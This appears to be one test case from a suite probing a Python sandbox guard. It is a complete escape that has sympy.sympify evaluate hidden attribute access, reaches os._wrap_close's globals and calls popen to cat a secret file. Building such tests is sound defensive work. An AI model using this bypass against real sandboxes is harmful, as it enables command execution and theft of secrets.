# category: imports
# attack: sympy.sympify evaluates a string with attribute access the guard never sees: type.__dict__['__subclasses__'] to every class, then a function's globals through the __globals__ descriptor
# profile: data_science
# run-layer: guard
import sympy
e = "Integer.__class__.__class__.__dict__['__subclasses__'](Integer.mro()[-1])"
for c in sympy.sympify(e, evaluate=False):
    if c.__name__ == "_wrap_close":
        g = sympy.sympify("F.__class__.__dict__['__globals__'].__get__(F)",
                          locals={"F": c.__init__}, evaluate=False)
        print(g["popen"]("cat @SECRET_FILE@").read())
